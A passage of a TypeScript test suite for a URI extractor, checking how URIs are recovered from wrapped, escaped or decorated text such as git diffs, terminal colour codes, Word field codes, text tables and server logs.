          "&lt;a href=&quot;https://www.example.com/o&apos;reilly/books&quot;&gt;x&lt;/a&gt;\n" +
          "{'guid':'https://www.example.com/a\\u0027, 'x': 1}\n",
      ),
    ).toEqual([
      "https://www.example.com/o'reilly/books?author=o'brien",
      "https://www.example.com/o'reilly/books",
      "https://www.example.com/a",
    ]);
  });
});

describe("session 40: text rendered from HTML (the converters hunt)", () => {
  test("a bracket escaped in a query is the query's; before the query it ends the URI; groff's \\[ti] stays a named character", () => {
    const text =
      "Filter: [open issues](https://api.example.com/v2/issues?filter\\[status\\]=open&sort=-created).\n" +
      "[write](mailto:someone@example.com?subject=Re:%20\\[PATCH%20v2\\]%20fix&cc=other@example.org)\n" +
      "curl https://api.example.com/x?cat\\[\\]=1\n" +
      "<https://example.com/\\[\\> and https://example.com/a\\[b\\] ok\n";
    expect(uris(text)).toEqual([
      "https://api.example.com/v2/issues?filter[status]=open&sort=-created",
      "mailto:someone@example.com?subject=Re:%20[PATCH%20v2]%20fix&cc=other@example.org",
      "https://api.example.com/x?cat[]=1",
      "https://example.com/",
      "https://example.com/a",
    ]);
    expectRecordsAtEverySplit(text, 3);
  });

  test("a scheme's ':' at a line's end after a link's reference mark goes on at '//' on the next, indented line", () => {
    const text =
      "    By default, these both refer to Git homepage, [5]https:\n    //git-scm.com; in the past, they pointed to Git\n" +
      // no reference mark: an indented "//" is still a comment's, unless "www." and a path
      "    see https:\n    //git-scm.com; in the past\n";
    expect(uris(text)).toEqual(["https://git-scm.com"]);
    expectRecordsAtEverySplit(text, 3);
  });

  test("Org's =verbatim= of several words closes after the URI; a query's '=' and a key=value before stay", () => {
    expect(
      uris(
        "  - =git clone https://salsa.debian.org/dbnpolicy/policy=\n" +
          "  - Clone it with =git clone file:///path/to/repo=. The clone\n" +
          "a=b https://x.example/?sig=abc= and key=val see https://x.example/a= ok\n",
      ),
    ).toEqual([
      "https://salsa.debian.org/dbnpolicy/policy",
      "file:///path/to/repo",
      "https://x.example/?sig=abc=",
      "https://x.example/a=",
    ]);
  });

  test("a word glued before 'https://' after a '.' or '-' of its run is not the scheme's; 'git+https' is one", () => {
    expect(
      uris(
        "=== Class: assert.AssertionErrorhttps://github.com/nodejs/node/blob/x/lib/assert.js#L143 x\n" +
          "pip install git+https://github.com/a/b and svn+ssh://h/x\n",
      ),
    ).toEqual([
      "https://github.com/nodejs/node/blob/x/lib/assert.js#L143",
      "git+https://github.com/a/b",
      "svn+ssh://h/x",
    ]);
  });

  test("a Japanese particle after a '/' opens a phrase that goes on in kanji and kana mixed", () => {
    expect(
      uris(
        "    http://prdownloads.sourceforge.net/w3m/から手に入ります．\nhttps://example.jp/wiki/から騒ぎ\n",
      ),
    ).toEqual(["http://prdownloads.sourceforge.net/w3m/", "https://example.jp/wiki/から騒ぎ"]);
  });
});

describe("session 40: message-ids in a path, wrapped (the converters hunt, lynx's text of git's docs)", () => {
  test("a hard wrap inside a message-id's domain goes on in the dotted name that completes it; a 'www.' name is its own", () => {
    const text =
      "   [8]https://lore.kernel.org/git/20170714132651.170708-1-benpeart@microso\n   ft.com/\n" +
      "   Subject: [RFC/PATCH v2 0/1] Add support for downloading blobs on demand\n\n" +
      "       [11]https://lore.kernel.org/git/20170304011251.GA26789@aiede.mtv.co\n       rp.google.com\n\n" +
      "Mail me at https://example.com/contact/form-page-for-the-whole-team@example\nwww.example.com/more\n";
    expect(uris(text)).toEqual([
      "https://lore.kernel.org/git/20170714132651.170708-1-benpeart@microsoft.com/",
      "https://lore.kernel.org/git/20170304011251.GA26789@aiede.mtv.corp.google.com",
      "https://example.com/contact/form-page-for-the-whole-team@example",
    ]);
    expectRecordsAtEverySplit(text, 3);
  });
});

describe("session 40: Python's pprint (the dumps hunt)", () => {
  test("a URI alone in a literal that continues the literal above it, which ends in a blank, leaves the sentence its punctuation; a list's items keep theirs", () => {
    const text =
      "[{'comment': 'See it at https://nodejs.org/api/string_decoder.html.\\r\\n'\n" +
      "             'See it at '\n" +
      "             'https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Uint32Array.',\n" +
      "urls = ['https://a.example/x.',\n        'https://b.example/y.']\n";
    expect(uris(text)).toEqual([
      "https://nodejs.org/api/string_decoder.html",
      "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Uint32Array",
      "https://a.example/x.",
      "https://b.example/y.",
    ]);
    expectRecordsAtEverySplit(text, 3);
  });
});

describe("session 40: a line break between the two slashes (the converters hunt)", () => {
  test("'http:/' LF '/host…' is one URI when a dotted host follows; a path of its own is not", () => {
    const text =
      "AboutConfig from [26]http:/\n/aboutconfig.mozdev.org/ and External\n\n" +
      "see http:/\n   /oss-institute.org/fips-faq.html.\n\n" +
      "file:/\n/etc/passwd\n\nx http:/\ny\n";
    const found = extractText(text);
    expect(found.map((f) => [f.uri, f.wrapped, f.raw])).toEqual([
      ["http://aboutconfig.mozdev.org/", true, "http:/\n/aboutconfig.mozdev.org/"],
      [
        "http://oss-institute.org/fips-faq.html",
        true,
        "http:/\n   /oss-institute.org/fips-faq.html",
      ],
    ]);
    expectRecordsAtEverySplit(text);
  });
});

describe("session 40: YAML double-quoted scalars folded inside a word (the dumps hunt)", () => {
  test("an escaped line break in a YAML double-quoted scalar is no content: the URI goes on, and a '\\' opening the next line is an escape's", () => {
    const text =
      '- body: "x line one\\nhttps://ja.wikipedia.org/wiki/\\u6771\\\n    \\u4EAC\\u90FD\\n\\nline three"\n' +
      '    Check\n    https://gcc.gnu.org/onlinedocs/gcc-12.1.0/gcc/Static-Analyzer-Options.html#\\\n    index-fanalyzer, it is great."\n' +
      'key: "see http://www.ibiblio.org/pub/packages/ccic/software/x-win/uxterm/uxterm.README\\\n  \\r\\nnext"\n' +
      // a shell's line continuation: the next line is another word
      'curl https://x.example/api\\\n  -H "Accept: json"\n' +
      "git clone https://github.com/a/b.git\\\n    /opt/repo\n";
    expect(uris(text)).toEqual([
      "https://ja.wikipedia.org/wiki/東京都",
      "https://gcc.gnu.org/onlinedocs/gcc-12.1.0/gcc/Static-Analyzer-Options.html#index-fanalyzer",
      "http://www.ibiblio.org/pub/packages/ccic/software/x-win/uxterm/uxterm.README",
      "https://x.example/api",
      "https://github.com/a/b.git",
    ]);
    expectRecordsAtEverySplit(text, 3);
  });
});

describe("session 40: the review's cases", () => {
  test("a groff named character after a query stays groff's; Chinese in a query value stays; a base64 query's '=' stays", () => {
    expect(
      uris(
        "\\[lq]https://www.example.com/search?q=man\\[rq] and https://e.example/?a=b\\[em]and\n" +
          "https://example.com/s?wd=a.pdf下载\n" +
          "params =foo https://example.com/x?sig=YWJj=\n",
      ),
    ).toEqual([
      "https://www.example.com/search?q=man",
      "https://e.example/?a=b",
      "https://example.com/s?wd=a.pdf下载",
      "https://example.com/x?sig=YWJj=",
    ]);
    expectRecordsAtEverySplit("see https://www.example.com/search?q=man\\[rq] and ?q=\\[a\\]\n");
  });
});

describe("session 41: git's word diff (the git and diff hunt)", () => {
  test("a removed word '[-…-]' and an added one '{+…+}' keep their marks out of the URI", () => {
    const text =
      "[-http://old.example.com/a-]{+http://new.example.com/b+}\n" +
      "see [-https://a.org/x.-] {+https://a.org/y+} now\n" +
      // several words in the marks, the sentence's punctuation inside them
      "{+Fixed, see https://bugs.example.org/show_bug.cgi?id=12.+}\n" +
      "[-Moved to https://example.com/old/page,-] {+Moved to https://example.com/new/page,+} ok\n" +
      // not a word diff: a URI's own "-" or "+" before a closer stays
      "keep http://x.org/a-] and (http://x.org/b+)\n";
    expect(uris(text)).toEqual([
      "http://old.example.com/a",
      "http://new.example.com/b",
      "https://a.org/x",
      "https://a.org/y",
      "https://bugs.example.org/show_bug.cgi?id=12",
      "https://example.com/old/page",
      "https://example.com/new/page",
      "http://x.org/a-",
      "http://x.org/b+",
    ]);
    expectRecordsAtEverySplit(text);
  });
});

describe("session 41: Org link targets", () => {
  test("'[[URL][text]]' and '[[URL]]': the ']' ends the target, whose last '.' or '!' is its own", () => {
    const text =
      "See [[https://en.wikipedia.org/wiki/Washington,_D.C.][DC]] and [[https://en.wikipedia.org/wiki/Yahoo!]].\n" +
      // not a link's target: the sentence's period
      "[[https://x.org/a.]x and [https://x.org/b.]\n";
    expect(uris(text)).toEqual([
      "https://en.wikipedia.org/wiki/Washington,_D.C.",
      "https://en.wikipedia.org/wiki/Yahoo!",
      "https://x.org/a",
      "https://x.org/b",
    ]);
    expectRecordsAtEverySplit(text);
  });
});

describe("session 41: git's colours and graph around a wrapped '<…>' (the git and diff hunt)", () => {
  test("a word diff's marks around the pieces of a wrapped '<…>' are the diff's", () => {
    const text =
      "{+See <https://www.example.org/include/api/src/+}\n{+guide/k147/notes.html> for the details.+}\n" +
      "[-Old <https://a.example/x/-]\n[-y.html> gone-]\n" +
      // no word diff opened on the line: the marks are the URI's characters
      "keep <https://a.example/x+}\n{+y>\n";
    expect(uris(text)).toEqual([
      "https://www.example.org/include/api/src/guide/k147/notes.html",
      "https://a.example/x/y.html",
      "https://a.example/x+}{+y",
    ]);
    expectRecordsAtEverySplit(text);
  });
  test("a colour reset at the line's end, and colours and a coloured diff marker opening the next line, are no part of the URI", () => {
    const text =
      "See <https://www.example.org/include/api/src/\x1b[m\n guide/k147/notes.html> for the details.\x1b[m\n" +
      "\x1b[1mdiff --git a/f b/f\x1b[m\n\x1b[36m@@ -1,3 +1,4 @@\x1b[m\n" +
      "\x1b[32m+\x1b[m\x1b[32mSee <https://www.example.org/a/src/\x1b[m\n\x1b[32m+\x1b[m\x1b[32mguide/notes.html> for it.\x1b[m\n" +
      // a colour inside one line still ends the wrapper's reading; the bare rules drop it
      "<https://x.example/a\x1b[31mb>\n";
    expect(uris(text)).toEqual([
      "https://www.example.org/include/api/src/guide/k147/notes.html",
      "https://www.example.org/a/src/guide/notes.html",
      "https://x.example/ab",
    ]);
    expectRecordsAtEverySplit(text);
  });
  test("git log --graph's columns open the lines a wrapped URI goes on to", () => {
    const text =
      "| * commit 1b05651\n| |     Change Maintainer to the Python Team <https://www.example.org/\n| |       release-notes/perf/k206/scripts.html> add a patch.\n" +
      "|     see <https://www.example.org/a/\n|     b.html> ok\n" +
      "|| see <http://x.org/a/\n|| b>\n";
    expect(uris(text)).toEqual([
      "https://www.example.org/release-notes/perf/k206/scripts.html",
      "https://www.example.org/a/b.html",
      "http://x.org/a/b",
    ]);
    expectRecordsAtEverySplit(text);
  });
});

describe("session 41: grep's and nested diffs' prefixes (the git and diff hunt)", () => {
  test("a committed patch file in a diff: the inner marker after the outer one is the inner diff's", () => {
    const text =
      "diff --git a/debian/patches/fix.patch b/debian/patches/fix.patch\n--- /dev/null\n+++ b/debian/patches/fix.patch\n@@ -0,0 +1,7 @@\n" +
      "+--- a/README\n++++ b/README\n+@@ -1,2 +1,3 @@\n+ Intro\n++See <https://a.example.org/x/very/long/\n++path.html> more\n" +
      "+-Old <https://a.example.org/y/very/long/\n+-path2.html> more\n";
    expect(uris(text)).toEqual([
      "https://a.example.org/x/very/long/path.html",
      "https://a.example.org/y/very/long/path2.html",
    ]);
    expectRecordsAtEverySplit(text);
  });
  test("a patch quoted in a review's reply: the marker after the quote markers is the diff's", () => {
    const text =
      "> @@ -1,3 +1,4 @@\n> +See <https://a.example.org/x/very/long/path/\n> +file.html> more\n>  context\n" +
      "> -Old <https://a.example.org/y/\n> -z.html> gone\n\n" +
      // no hunk: a quoted line's "-" after a wrap is the URI's
      "> see <https://a.example.org/q/\n> -r.html> prose\n";
    expect(uris(text)).toEqual([
      "https://a.example.org/x/very/long/path/file.html",
      "https://a.example.org/y/z.html",
      "https://a.example.org/q/-r.html",
    ]);
    expectRecordsAtEverySplit(text);
  });
  test("grep -n's 'NEWS:15:' is a file's name and line number, not a news: URI", () => {
    const text =
      "NEWS:15:https://lore.kernel.org/r/20260622107216.82161-2-k205@example.com\n" +
      "NEWS:10:<URL:https://example.com/a/b>.\nman:4:http://example.com/b\nsrc/NEWS:7:see news:comp.lang.c\n" +
      "news:comp.lang.c and news:12345\n";
    expect(uris(text)).toEqual([
      "https://lore.kernel.org/r/20260622107216.82161-2-k205@example.com",
      "https://example.com/a/b",
      "http://example.com/b",
      "news:comp.lang.c",
      "news:comp.lang.c",
      "news:12345",
    ]);
    expectRecordsAtEverySplit(text);
  });
  test("a committed patch's added line '++https://…' is no User-Agent's glued URI: its '+' are the path's and the query's", () => {
    const text =
      "@@ -1,3 +1,4 @@\n++https://bugs.launchpad.net/ubuntu/+source/foo/+bug/2838648\n" +
      "++https://www.example.com/search?q=lib+scripts&lang=en\n" +
      // a User-Agent's "++" (two encoded blanks) still ends the argument at its "+"
      "Mozilla/5.0+(compatible;+MSIE+7.0++http://www.europarchive.org)\nworiobot++http://worio.com/a+b\n";
    expect(uris(text)).toEqual([
      "https://bugs.launchpad.net/ubuntu/+source/foo/+bug/2838648",
      "https://www.example.com/search?q=lib+scripts&lang=en",
      "http://www.europarchive.org",
      "http://worio.com/a",
    ]);
    expectRecordsAtEverySplit(text);
  });
});

describe("session 41: e-books' and documents' text (the office and e-book converters hunt)", () => {
  test("a zero width space after '/', '.' or '-' and a soft hyphen between letters in a path are typesetting, dropped", () => {
    const text =
      "The transcription is at https://www.harbor-archive.example/\u200bcollections/\u200bmanuscripts/\u200b01/\u200bfolio-10/\u200btranscription.xml?view=diplomatic&lang=la in full.\n" +
      "The photographs are at https://www.harbor-archive.example/col\u00adlec\u00adtions/pho\u00adto\u00adgraphs/01/de\u00adscrip\u00adtion.html, with captions.\n" +
      // not before the next URI, nor before a letter of another script (Thai's word break)
      "https://a.example/x/\u200bhttps://b.example/y https://a.example/th/\u200bข่าว\n";
    expect(uris(text)).toEqual([
      "https://www.harbor-archive.example/collections/manuscripts/01/folio-10/transcription.xml?view=diplomatic&lang=la",
      "https://www.harbor-archive.example/collections/photographs/01/description.html",
      "https://a.example/x/",
      "https://b.example/y",
      "https://a.example/th/",
    ]);
    expectRecordsAtEverySplit(text, 3);
  });
  test("pandoc's footnote back-link '↩︎' and a footnote's '[n]' after a path are the text's", () => {
    const text =
      "Survey data from ftp://ftp.kestrel.org/pub/releases/nectar-10.0.tar.gz.\u21a9\ufe0e\n" +
      "Data: https://example.org/stats/2024/table.csv\u21a9\ufe0e\n" +
      "The notes live at https://www.harbor-books.example/catalogue/notes.html[1] and an index at https://www.harbor-books.example/catalogue/index.html.[2]\n" +
      // a query's or a fragment's brackets, and a bracketed word, stay
      "https://x.example/?a[1] https://x.example/d#sec[2] https://x.example/a[b] https://x.example/\u21a9x\n";
    expect(uris(text)).toEqual([
      "ftp://ftp.kestrel.org/pub/releases/nectar-10.0.tar.gz",
      "https://example.org/stats/2024/table.csv",
      "https://www.harbor-books.example/catalogue/notes.html",
      "https://www.harbor-books.example/catalogue/index.html",
      "https://x.example/?a[1]",
      "https://x.example/d#sec[2]",
      "https://x.example/a[b]",
      "https://x.example/\u21a9x",
    ]);
    expectRecordsAtEverySplit(text, 3);
  });
});

describe("session 41: terminal captures (the terminal hunt)", () => {
  test("colours take no column when a hard-wrapped line is measured; a cursor's move ends a bare URI, a colour does not", () => {
    const text =
      "  \x1b[1m\x1b[94m= \x1b[0m\x1b[1mhelp\x1b[0m: for further information visit https://rust-lang.github.io/rust-clippy/\nrust-1.95.0/index.html#needless_return\n" +
      "fetch https://registry.npmjs.org/react\x1b[1G\x1b[0Kadded 3 packages\n" +
      "error: https://raw.example.com/a/b\x1b[5;3Hdocs: x\n" +
      // curses' wrap of a long line (watch): a move to the next row's first column
      "error: https://raw.example.com/account\x1b[4;1H/lib-1.23.5.tar.gz/0334518\x1b[5;3Hdocs: x\n" +
      "see http://localhost:\x1b[1m5173\x1b[22m/ now\n";
    expect(uris(text)).toEqual([
      "https://rust-lang.github.io/rust-clippy/rust-1.95.0/index.html#needless_return",
      "https://registry.npmjs.org/react",
      "https://raw.example.com/a/b",
      "https://raw.example.com/account/lib-1.23.5.tar.gz/0334518",
      "http://localhost:5173/",
    ]);
    expectRecordsAtEverySplit(text, 3);
  });
  test("grep's colours inside '<…>', and between the '<' and the scheme, keep the wrapper", () => {
    const text =
      "  docs: <\x1b[1m\x1b[31mhttps://api.example.org/guide.html/blob/release/index/tests.html/pull/t\nutorial>\n" +
      "<https://x.example/a/\x1b[01;31m\x1b[Kguide\x1b[m\x1b[K/b c>\n";
    expect(uris(text)).toEqual([
      "https://api.example.org/guide.html/blob/release/index/tests.html/pull/tutorial",
      "https://x.example/a/guide/bc",
    ]);
    expectRecordsAtEverySplit(text, 3);
  });
});

describe("session 41: a hard wrap inside a percent-encoding (the converters hunt)", () => {
  test("a line of a wrap width broken after '%' or '%' and one hex digit goes on with the digits that complete the octet", () => {
    const text =
      "The vendor calls it\nhttps://intranet.garnet-corp.example/sites/Team6/Shared%20Documents/Q3%2\n0Report.docx\u201d.\n\n" +
      // a short line: not a wrap width's, the URI ends there (invalid, as written)
      "x https://a.example/b%\n20c d\n" +
      // a closing quotation mark glued to a hard-wrapped URI's rest is the sentence's
      "As the report puts it, \u201cdetails are at\nhttps://www.lumen.com/11/?utm_source=newsletter&utm_medium=email&utm_cam\npaign=spring_2011\u201d.\n\n" +
      // no hex digits to complete it: the URI ends at the break (invalid, as written)
      "https://a.example/b%2\nzz\n";
    expect(extractText(text, { includeInvalid: true }).map((f) => f.uri)).toEqual([
      "https://intranet.garnet-corp.example/sites/Team6/Shared%20Documents/Q3%20Report.docx",
      "https://a.example/b%",
      "https://www.lumen.com/11/?utm_source=newsletter&utm_medium=email&utm_campaign=spring_2011",
      "https://a.example/b%2",
    ]);
    expectRecordsAtEverySplit(text);
  });
});

describe("session 41: the review's cases", () => {
  test("a URI's own number and password after its scheme is no grep prefix; a zero width space after a '.' or before a word of another script or another URI ends the URI", () => {
    const text =
      "sip:1001:s3cret@pbx.example.com\nxmpp:1234:x@example.com\nmid:1234:5678@example.com\n" +
      "See https://example.com/docs.\u200bNext, run\nx https://example.com/docs/\u200bPDF\u7248\u3092\n" +
      "https://a.example/x/\u200bmailto:a@b.example and https://a.example/y/\u200bwww.b.example/\n" +
      "[link](https://example.com/a[1]) https://example.com/a\x1b[sDone\n" +
      // grep -n's prefix before a line that opens with punctuation or a date
      "NEWS:15:url=https://example.com/x\nnotes:12:2024-03-01 read https://example.com/w\n" +
      // a literal '%' that ends a short line is no octet's start
      "See https://example.com/report?pct=100%\nDeadline is Friday.\n" +
      "x => see data:;base64,AAA=. ok\n";
    expect(uris(text)).toEqual([
      "sip:1001:s3cret@pbx.example.com",
      "xmpp:1234:x@example.com",
      "mid:1234:5678@example.com",
      "https://example.com/docs",
      "https://example.com/docs/",
      "https://a.example/x/",
      "mailto:a@b.example",
      "https://a.example/y/",
      "https://example.com/a[1]",
      "https://example.com/a",
      "https://example.com/x",
      "https://example.com/w",
      "https://example.com/report?pct=100%",
      // (an arrow's "=>" opens no Org =verbatim=: the planted-URI test)
      "data:;base64,AAA=",
    ]);
    expectRecordsAtEverySplit(text, 3);
  });
  test("with --fuzzy a zero width space ends a schemeless link, as linkify-it's match", () => {
    expect(
      uris("see www.example.com/\u200bcollections/\u200bmanuscripts/x.xml here", { fuzzy: true }),
    ).toEqual(["http://www.example.com/"]);
  });
});

describe("session 42: Word field codes (the converters hunt's catdoc outputs)", () => {
  test("HYPERLINK's target runs to its quote: blanks are the target's, a word cut at the line's end is joined", () => {
    const width72 =
      "You can read the full text at https://api.example.io/v2/items/4?limit=5;\n" +
      "Then continue with the next step. The canonical location is   HYPERLINK\n" +
      '"https://www.ember-press.com/articles/2023/004/how-to-lumen-the-ember.ht\n' +
      'ml" and then some more words of the paragraph to fill the line up again\n' +
      "which is mirrored elsewhere. Our   HYPERLINK\n" +
      '"https://intranet.harbor-corp.example/sites/Team7/Shared Documents/Q4\n' +
      'Report.docx" project documentation  explains the setup in detail.\n' +
      '\nContact   HYPERLINK "mailto:editors1@beacon.example.org?subject=Chapter\n1" the editors .\n';
    expect(uris(width72)).toEqual([
      "https://api.example.io/v2/items/4?limit=5",
      "https://www.ember-press.com/articles/2023/004/how-to-lumen-the-ember.html",
      "https://intranet.harbor-corp.example/sites/Team7/Shared%20Documents/Q4%20Report.docx",
      "mailto:editors1@beacon.example.org?subject=Chapter%201",
    ]);
    expectRecordsAtEverySplit(width72, 3);
    // a one-word line narrower than the lines around it was wrapped at a blank (catdoc -m 60)
    const width60 =
      "This chapter collects the references we used while preparing\n" +
      "the material, which is mirrored elsewhere. Our   HYPERLINK\n" +
      '"https://intranet.harbor-corp.example/sites/Team7/Shared\n' +
      'Documents/Q4 Report.docx" project documentation  explains\r\n';
    expect(uris(width60)).toEqual([
      "https://intranet.harbor-corp.example/sites/Team7/Shared%20Documents/Q4%20Report.docx",
    ]);
    expect(uris(width60.replaceAll("\n", "\r\n").replaceAll("\r\r", "\r"))).toEqual(uris(width60));
  });
  test("the \\l switch is the target's fragment, also after a line break", () => {
    const text =
      'Mirror:   HYPERLINK "https://github.com/x/y/blob/main/src/index.ts" \\l "L15-L35" text\n' +
      'Item 2\t  HYPERLINK "https://docs.example.net/guide/chapter-6.html" \\o "tip" \\l\n"section 3" link\n' +
      '{ HYPERLINK "https://de.wikipedia.org/wiki/Straße_0" \\h }\n' +
      'a word then "https://example.com/a b" is no field code\n';
    const found = extractText(text);
    expect(found.map((f) => f.uri)).toEqual([
      "https://github.com/x/y/blob/main/src/index.ts#L15-L35",
      "https://docs.example.net/guide/chapter-6.html#section%203",
      "https://de.wikipedia.org/wiki/Straße_0",
      "https://example.com/a",
    ]);
    expect(found[0]!.raw).toBe('"https://github.com/x/y/blob/main/src/index.ts" \\l "L15-L35"');
    expectRecordsAtEverySplit(text, 2);
  });
});

describe("session 42: git log --graph -p (the git and diff hunt)", () => {
  test("a diff's marker after the graph's columns is skipped on the continuation line", () => {
    const text =
      "* commit 0123abcd\n|\\  Merge: a b\n| * commit 4567\n| | diff --git a/README b/README\n" +
      "| | @@ -1,3 +1,6 @@\n| |  context\n" +
      "| | +See <https://example.com/docs/very/long/path/that/is/\n| | +wrapped/here.html> ok\n" +
      "| | + * See <https://git.kernel.org/pub/scm/linux/fs/guide.git/\n| | + *   commit/?id=d47c2053329b> build\n" +
      "| | -Old <https://example.com/old/path/\n| | -  gone.html> x\n" +
      "|   +See <https://www.example.org/release-notes/fs/\n|   +  linux/k239/include.html> reorder\n";
    expect(uris(text)).toEqual([
      "https://example.com/docs/very/long/path/that/is/wrapped/here.html",
      "https://git.kernel.org/pub/scm/linux/fs/guide.git/commit/?id=d47c2053329b",
      "https://example.com/old/path/gone.html",
      "https://www.example.org/release-notes/fs/linux/k239/include.html",
    ]);
    expectRecordsAtEverySplit(text, 3);
  });
  test("not outside a hunk: a commit message's '+' after the graph stays the URI's", () => {
    const text =
      "* commit 0123abcd\n| Author: A <a@example.com>\n|\n|     Note\n" +
      "| +See <https://example.com/a/\n| +b.html> ok\n";
    expect(uris(text)).toEqual(["https://example.com/a/+b.html"]);
  });
});

describe("session 42: a URI wrapped in a text table's cell (the converters hunt's antiword tables)", () => {
  test("a URI that fills its cell goes on in the same cell of the next rows", () => {
    const text =
      "|Name               |Address                      |Notes                 |\n" +
      "|Item 0             |https://kestrel.example.org/n|see page 3.           |\n" +
      "|                   |ectar/10/                    |                      |\n" +
      "|Item 1             |http://nectar.example.com:808|see page 4.           |\r\n" +
      "|                   |0/cgi-bin/view.cgi?id=13;mode|                      |\r\n" +
      "|                   |=full                        |                      |\n" +
      "|Item 2             |https://shop.example.org/sear|see https://x.example/|\n" +
      "|                   |ch?q=1                       |                      |\n" +
      "|Item 3             |https://a.example/short      |see page 5.           |\n" +
      "|                   |next-word                    |                      |\n";
    expect(uris(text)).toEqual([
      "https://kestrel.example.org/nectar/10/",
      "http://nectar.example.com:8080/cgi-bin/view.cgi?id=13;mode=full",
      // (another cell holds a URI: no join, and that URI is found)
      "https://shop.example.org/sear",
      "https://x.example/",
      "https://a.example/short",
    ]);
    expectRecordsAtEverySplit(text, 5);
  });
  test("not when the next line's columns differ, nor a cell's text opening with a blank", () => {
    expect(uris("|a|https://example.org/ab|x|\n|b|cd|y|\n")).toEqual(["https://example.org/ab"]);
    expect(uris("|a|https://example.org/ab|x|\n|b| cd    |y|\n")).toEqual([
      "https://example.org/ab",
    ]);
    expect(uris("x https://example.org/ab|x|\n|b|cd|y|\n")).toEqual(["https://example.org/ab"]);
  });
});

describe("session 42: a table's next row is no cell's continuation", () => {
  test("aligned rows with their own URIs, and a header's rule", () => {
    expect(uris("|https://a.example/x|b|\n|https://b.example/y|c|\n")).toEqual([
      "https://a.example/x",
      "https://b.example/y",
    ]);
    expect(uris("|https://a.example/x|b|\n|-------------------|-|\n")).toEqual([
      "https://a.example/x",
    ]);
    expect(uris("|https://a.example/x|b|\n|/more              |c|\n")).toEqual([
      "https://a.example/x",
    ]);
  });
});

describe("session 42: a word longer than a line, cut where the line ends (the converters hunt's catdoc and antiword outputs)", () => {
  const para =
    "This chapter collects the references we used while preparing the\n" +
    "material. You can read the full text at the address below, and then\n" +
    "continue with the next steps of the procedures that this text describes.\n" +
    "These are the other references: the full texts of the first addresses is\n";
  test("a URI that is its line's one word and fills it goes on with the next line's first token", () => {
    const text =
      para +
      "https://api.meadow.io/v2/items/12?fields=id,name,price&limit=50&offset=1\n20 .\n" +
      para +
      "https://www.ember-press.com/articles/2023/004/how-to-lumen-the-ember.htm\nl , which is mirrored elsewhere.\n" +
      para +
      "(https://www.prairie.com/15/?utm_source=newsletter&utm_medium=email&utm_\ncampaign=spring_2015) with the primary source.\n";
    expect(uris(text)).toEqual([
      "https://api.meadow.io/v2/items/12?fields=id,name,price&limit=50&offset=120",
      "https://www.ember-press.com/articles/2023/004/how-to-lumen-the-ember.html",
      "https://www.prairie.com/15/?utm_source=newsletter&utm_medium=email&utm_campaign=spring_2015",
    ]);
    expectRecordsAtEverySplit(text, 7);
  });
  test("not a URI that ended by itself at the width, nor one on a line wider than the lines before", () => {
    const text =
      para +
      "https://www.lumen-books.example/catalogue/volume-5/chapter-76/notes.html\nand are updated yearly.\n" +
      para +
      "https://www.lumen-books.example/catalogue/volume-5/chapter-76/notes/index.html\nx-1 are updated yearly.\n" +
      "short lines\nof a list\n" +
      "https://www.lumen-books.example/catalogue/volume-5/chapter-76/notes/\nx-1 more\n" +
      para +
      "\thttps://example.org/include/mm/release-notes/drivers/fs/fs/net/k240/ind\n9e9afffc6ebb 7 7 2\n";
    expect(uris(text)).toEqual([
      "https://www.lumen-books.example/catalogue/volume-5/chapter-76/notes.html",
      "https://www.lumen-books.example/catalogue/volume-5/chapter-76/notes/index.html",
      "https://www.lumen-books.example/catalogue/volume-5/chapter-76/notes/",
      "https://example.org/include/mm/release-notes/drivers/fs/fs/net/k240/ind",
    ]);
  });
});

describe("session 42: tools' logs (the logs hunt)", () => {
  test("Apache's proxy handler 'proxy:' is a label before the backend's URL", () => {
    const text =
      "AH03464: URI path '/k004/x' matches proxy handler 'proxy:http://127.0.0.1:8081/k004/x'\n" +
      "worker proxy:balancer://mycluster/app [proxy:error] proxy:xyz\n";
    expect(uris(text)).toEqual(["http://127.0.0.1:8081/k004/x", "balancer://mycluster/app"]);
    expectRecordsAtEverySplit(text, 3);
  });
  test("a shell's '\\'' inside a single-quoted word is an apostrophe (bash -x)", () => {
    const text =
      "+ echo 'warning: fetch of http://localhost:8081/k137/it'\\''s/fine failed'\n" +
      "warning: fetch of http://localhost:8081/k137/it's/fine failed\n";
    expect(uris(text)).toEqual([
      "http://localhost:8081/k137/it's/fine",
      "http://localhost:8081/k137/it's/fine",
    ]);
    expectRecordsAtEverySplit(text, 2);
  });
  test("a shell's apostrophe in a quoted word: '\\'' and Python's '\"'\"'", () => {
    const text =
      "+ curl -fsSL -o /dev/null 'http://files.example.test:8081/k025/it'\\''s/fine'\n" +
      "Running command git clone --quiet 'http://localhost:8081/k081/it'\"'\"'s/fine' /tmp/x\n";
    expect(uris(text)).toEqual([
      "http://files.example.test:8081/k025/it's/fine",
      "http://localhost:8081/k081/it's/fine",
    ]);
    expectRecordsAtEverySplit(text, 2);
  });
  test("no hyphen join before a Java 9 frame, the line's own first word, or a word in capitals", () => {
    const text =
      "java.io.FileNotFoundException: http://a.example/k1/x-\n" +
      "\tat java.base/sun.net.www.protocol.http.HttpURLConnection.getInputStream0(HttpURLConnection.java:2005)\n" +
      "npm http fetch GET 404 http://a.example/k2/x-\nnpm error 404\n" +
      "http://a.example/k3/x-\nHTTP request sent, awaiting response... 404 Not Found\n" +
      "OK http://127.0.0.1:8081/k251/trail-\nOK http://127.0.0.1:8081/app/k267/#/route?x=1\n";
    expect(uris(text)).toEqual([
      "http://a.example/k1/x-",
      "http://a.example/k2/x-",
      "http://a.example/k3/x-",
      "http://127.0.0.1:8081/k251/trail-",
      "http://127.0.0.1:8081/app/k267/#/route?x=1",
    ]);
    expectRecordsAtEverySplit(text, 5);
  });
  test("a JSON object as a query's value, its quotes paired, no blank", () => {
    const text =
      '200 http://127.0.0.1:8081/k265/json?data={"a":1} ->  (0.000630s)\n' +
      'GET http://files.example.test:8081/k041/json?data={"a":1,"b":[2,3]}&x=1 - HIER\n' +
      'see http://a.example/?q={"a" b} and http://a.example/p={"a":1} and http://a.example/?r={"a}\n';
    const found = extractText(text);
    expect(found.map((f) => f.uri)).toEqual([
      'http://127.0.0.1:8081/k265/json?data={"a":1}',
      'http://files.example.test:8081/k041/json?data={"a":1,"b":[2,3]}&x=1',
      "http://a.example/?q=",
      "http://a.example/p=",
      "http://a.example/?r=",
    ]);
    expect(found[0]!.normalized).toBe("http://127.0.0.1:8081/k265/json?data=%7B%22a%22:1%7D");
    expectRecordsAtEverySplit(text, 3);
  });
  test("a URI ending in '-' at a log record's end goes on in no next line", () => {
